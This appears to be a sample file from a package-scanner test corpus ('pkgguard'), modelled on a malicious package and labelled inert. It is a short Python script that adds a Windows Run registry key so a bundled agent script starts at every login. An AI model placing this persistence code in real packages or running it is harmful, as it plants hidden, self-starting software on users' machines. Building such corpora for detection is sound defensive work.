# pkgguard corpus 264 (persistence), modelled on [termncolor]; inert, never run.
import os
import subprocess
import sys

agent = os.path.join(os.path.dirname(__file__), "_agent.pyw")
subprocess.run(
    ["reg", "add", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run", "/v", "pkgupd",
     "/d", f'"{sys.executable}" "{agent}"', "/f"],
    capture_output=True,
)
